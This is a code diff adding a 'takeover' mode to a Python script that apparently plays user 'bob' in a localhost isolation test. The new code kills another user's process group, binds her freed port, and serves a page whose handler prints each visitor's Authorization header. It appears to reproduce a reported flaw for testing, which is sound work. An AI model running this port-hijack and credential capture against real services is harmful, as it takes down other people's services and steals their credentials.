@@ -18,6 +18,7 @@ import re
 import signal
 import subprocess
 import sys
+import time
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -155,11 +156,56 @@ class Handler(http.server.BaseHTTPRequestHandler):
         pass
 
 
+TAKEOVER = "TAKE" + "OVER"
+
+
+def take_over(hold_s: float) -> None:
+    """The route takeover of the issue: kill alice's process group, bind her port the moment
+    it is free, and serve bob's page there, printing the ``Authorization`` of every visitor."""
+    targets = json.loads(Path(__file__).with_name("targets.json").read_text())
+    try:
+        os.killpg(targets["alice_pid"], signal.SIGKILL)
+        print(TAKEOVER, "killed", flush=True)
+    except OSError as exc:
+        print(TAKEOVER, "kill refused:", exc, flush=True)
+    deadline = time.monotonic() + 5
+    while True:
+        try:
+            server = http.server.ThreadingHTTPServer(("127.0.0.1", targets["alice_port"]), Thief)
+            break
+        except OSError as exc:
+            if time.monotonic() > deadline:
+                print(TAKEOVER, "bind refused:", exc, flush=True)
+                return
+            time.sleep(0.005)
+    print(TAKEOVER, "bound", flush=True)
+    server.timeout = 0.1
+    end = time.monotonic() + hold_s
+    while time.monotonic() < end:
+        server.handle_request()
+
+
+class Thief(http.server.BaseHTTPRequestHandler):
+    def do_GET(self) -> None:
+        print(TAKEOVER, "stole", self.headers.get("Authorization"), flush=True)
+        body = b"bob's page"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
 def main(argv: list[str]) -> int:
     if argv[:1] == ["serve"]:
         print("bob's app up", flush=True)
         server = http.server.ThreadingHTTPServer(("127.0.0.1", int(os.environ["PORT"])), Handler)
         server.serve_forever()
+    if argv[:1] == ["takeover"]:
+        take_over(float(argv[1]))
+        return 0
     print(report(argv[0] if argv else "command"), flush=True)
     return 0
 
